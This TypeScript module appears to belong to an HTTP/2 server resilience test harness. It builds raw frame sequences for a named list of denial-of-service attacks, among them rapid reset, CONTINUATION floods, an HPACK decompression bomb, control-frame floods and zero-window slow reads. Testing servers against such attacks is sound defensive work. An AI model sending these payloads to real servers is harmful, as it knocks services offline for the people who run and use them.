import { field, flag, frame, frameType, requestBlock, settings, uint32 } from './http2-frames.ts';

/** A client of HTTP/2 that does harm at little cost of its own. */
export interface Attack {
  /** Settings of the client. */
  readonly settings?: readonly (readonly [number, number])[];
  /** Octets of one round. */
  readonly round: (round: number) => Buffer;
  /** Octets after which it waits for what becomes of it. */
  readonly mostBytes?: number;
}

const headers = flag.endHeaders;
const streamOf = (round: number, index: number, perRound: number): number => (round * perRound + index) * 2 + 1;
const many = (count: number, make: (index: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, index) => make(index)));

/** Fills the table of fields with one of 3 kB, then names it again and again: 1 octet each. */
function bomb(stream: number, first: boolean): Buffer {
  const value = Buffer.alloc(3_000, 'b');
  const length = Buffer.from([0x7f, ...integer(value.length - 127)]);
  const entry = Buffer.concat([Buffer.from([0x40, 4]), Buffer.from('x-b1'), length, value]);
  const block = Buffer.concat([requestBlock(), first ? entry : Buffer.alloc(0), Buffer.alloc(8_000, 0x80 | 62)]);
  return frame(frameType.headers, flag.endStream | headers, stream, block);
}

function integer(value: number): number[] {
  const octets: number[] = [];
  let rest = value;
  for (; rest > 127; rest = Math.floor(rest / 128)) octets.push((rest % 128) | 0x80);
  return [...octets, rest];
}

/** By name. */
export const attacks: Readonly<Record<string, Attack>> = {
  'requests that are given up at once (rapid reset)': {
    round: (round) =>
      many(100, (index) => {
        const stream = streamOf(round, index, 100);
        return Buffer.concat([
          frame(frameType.headers, flag.endStream | headers, stream, requestBlock()),
          frame(frameType.reset, 0, stream, uint32(8)),
        ]);
      }),
  },
  'malformed requests, which the server resets': {
    round: (round) =>
      many(100, (index) =>
        frame(
          frameType.headers,
          flag.endStream | headers,
          streamOf(round, index, 100),
          Buffer.concat([requestBlock(), field('Upper', 'x')]),
        ),
      ),
  },
  'requests without a path, which the server resets': {
    round: (round) =>
      many(100, (index) => frame(frameType.headers, flag.endStream | headers, streamOf(round, index, 100), requestBlock('nowhere'))),
  },
  'a head without end (CONTINUATION)': {
    round: (round) =>
      round === 0
        ? frame(frameType.headers, flag.endStream, 1, requestBlock())
        : many(16, () =>
            frame(
              frameType.continuation,
              0,
              1,
              many(60, () => field('x-continued', 'c'.repeat(100))),
            ),
          ),
  },
  'a head without end, of empty frames': {
    round: (round) =>
      round === 0 ? frame(frameType.headers, flag.endStream, 1, requestBlock()) : many(500, () => frame(frameType.continuation, 0, 1)),
  },
  'PING without pause': { round: () => many(500, () => frame(frameType.ping, 0, 0, Buffer.alloc(8))) },
  'SETTINGS without pause': { round: () => many(100, () => settings([1, 4096], [4, 65_535])) },
  'SETTINGS that say nothing': { round: () => many(500, () => settings()) },
  'PRIORITY without pause': { round: () => many(500, (index) => frame(frameType.priority, 0, index * 2 + 1, Buffer.alloc(5))) },
  'WINDOW_UPDATE without pause': { round: () => many(500, () => frame(frameType.windowUpdate, 0, 0, uint32(1))) },
  'DATA of no octets': {
    round: (round) =>
      round === 0 ? frame(frameType.headers, headers, 1, requestBlock('/', 'POST')) : many(500, () => frame(frameType.data, 0, 1)),
  },
  'frames of a type that nobody knows': { round: () => many(100, () => frame(0x99, 0, 0, Buffer.alloc(100))) },
  'fields that grow when they are read (HPACK bomb)': {
    round: (round) => many(10, (index) => bomb(streamOf(round, index, 10), round === 0 && index === 0)),
  },
  'more requests at a time than allowed': {
    round: (round) => many(100, (index) => frame(frameType.headers, headers, streamOf(round, index, 100), requestBlock('/', 'POST'))),
  },
  'answers that nobody takes (windows of 0)': {
    settings: [[4, 0]],
    mostBytes: 4_000,
    round: (round) => frame(frameType.headers, flag.endStream | headers, streamOf(round, 0, 1), requestBlock('/large')),
  },
  'a connection that says nothing': { mostBytes: 1, round: () => Buffer.alloc(0) },
};
